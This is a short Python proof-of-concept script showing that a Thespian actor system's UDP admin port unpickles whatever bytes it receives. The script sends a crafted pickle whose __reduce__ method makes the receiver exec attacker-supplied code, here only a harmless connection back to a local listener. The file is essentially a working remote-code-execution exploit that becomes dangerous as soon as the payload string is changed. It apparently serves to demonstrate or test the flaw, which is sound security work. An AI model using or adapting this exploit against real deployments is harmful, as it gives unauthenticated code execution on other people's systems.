# /// script
# requires-python = ">=3.11"
# dependencies = ["thespian>=4.0,<5"]
# ///
"""Send bytes to an admin's port, and have it run the code they hold."""

import os
import pickle
import socket

from thespian.actors import ActorSystem

CODE = "import socket; socket.create_connection({}).close()"


class CallHome:
    """Whoever unpickles this runs the code. Here it does no harm."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.address = address

    def __reduce__(self) -> tuple[object, ...]:
        return exec, (CODE.format(self.address),)


def main() -> None:
    """Know nothing of the system but its port."""
    # Thespian's own log, else thespian.log in the directory TMPDIR.
    os.environ["THESPLOG_FILE"] = os.devnull
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger,
        socket.create_server(("127.0.0.1", 0)) as home,
    ):
        home.settimeout(10)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        system = ActorSystem("multiprocUDPBase", {"Admin Port": port})
        try:
            letter = pickle.dumps(CallHome(home.getsockname()))
            stranger.sendto(letter, ("127.0.0.1", port))
            home.accept()[0].close()
            print("the code in the letter ran: it called home")
        finally:
            system.shutdown()


if __name__ == "__main__":
    main()
